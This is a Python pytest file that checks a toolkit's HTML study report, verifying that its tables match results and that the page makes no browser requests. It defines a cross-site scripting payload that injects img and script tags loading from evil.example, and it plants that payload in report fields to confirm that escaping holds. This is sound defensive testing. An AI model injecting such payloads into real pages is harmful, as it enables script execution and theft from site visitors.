"""What the quick study writes, and what a browser requests when it shows the page."""

import re
import shutil
from collections.abc import Callable, Iterator
from pathlib import Path

import pandas as pd
import pytest

from tkit.bundle import Bundle
from tkit.evaluate import comparison
from tkit.report.study import Details, write_study
from tkit.study import StudyResult

Requested = Callable[[str], list[str]]
HOSTILE = "\"><img src=http://evil.example/x><script src='http://evil.example/s.js'></script><!--"


@pytest.fixture(scope="module")
def requested() -> Iterator[Requested]:
    """What Chromium asks for when it shows a text."""
    pytest.importorskip("playwright.sync_api", reason="needs Playwright: pip install 'tkit[lab]'")
    from tkit.lab.render import CHROMIUM_NAMES, ChromiumRenderer  # noqa: PLC0415

    if not any(map(shutil.which, CHROMIUM_NAMES)):
        pytest.skip("needs Chromium: apt-get install chromium")

    def asked(text: str) -> list[str]:
        found = renderer.requested(text)
        assert renderer.defects == ()
        return found

    with ChromiumRenderer(timeout_seconds=120) as renderer:
        yield asked


def test_what_is_written_is_what_was_found(folder: Path, done: StudyResult) -> None:
    tables = {path.stem: pd.read_csv(path) for path in folder.glob("*.csv") if path.stat().st_size > 1}
    assert sorted(tables) == ["comparison", "differences", "errors", "populations", "slices", "splits", "verdicts"]
    assert tables["comparison"]["tpr"].tolist() == pytest.approx(done.comparison["tpr"].tolist())
    assert tables["splits"]["split"].tolist() == ["unseen kit or provider"]
    assert len(tables["errors"]) == len(done.errors)
    pd.testing.assert_frame_equal(tables["verdicts"], done.verdicts, check_dtype=False)
    assert Bundle.load(folder / "bundle").name == "boosting"


def opened(page: Path) -> str:
    return page.read_text(encoding="utf-8").replace("<details>", "<details open>")


def test_the_page_asks_a_browser_for_nothing(folder: Path, done: StudyResult, requested: Requested) -> None:
    text = opened(folder / "report.html")
    assert text.count("<details open>") == len(done.errors)
    assert requested(text) == []


def test_hostile_names_stay_texts(tmp_path: Path, done: StudyResult, requested: Requested) -> None:
    columns = ["host_domain", "carrier", "corpus", "near_1", "message_sha256"]
    errors = done.errors.head(3).assign(**dict.fromkeys(columns, HOSTILE), reasons=[[HOSTILE]] * 3)
    details = Details(
        answer=[HOSTILE],
        splits=done.splits.assign(split=HOSTILE, claim=HOSTILE),
        differences=done.differences.assign(against=HOSTILE),
        verdicts=done.verdicts.assign(corpus=HOSTILE),
        slices=done.slices.assign(slice=HOSTILE, value=HOSTILE),
        errors=errors,
    )
    table = comparison(done.evaluations)
    page = write_study(tmp_path, table, done.evaluations, {"command": HOSTILE}, done.bundle, details)
    assert not re.search("<img src=http|<script", page.read_text(encoding="utf-8"))
    # Without the policy that forbids it all, so that escaping alone must hold.
    bare = re.sub("<meta http-equiv[^>]*>", "", opened(page))
    assert requested(bare) == []
    assert requested(bare.replace("<h1>", "<img src=http://evil.example/x><h1>")) == ["http://evil.example/x"]
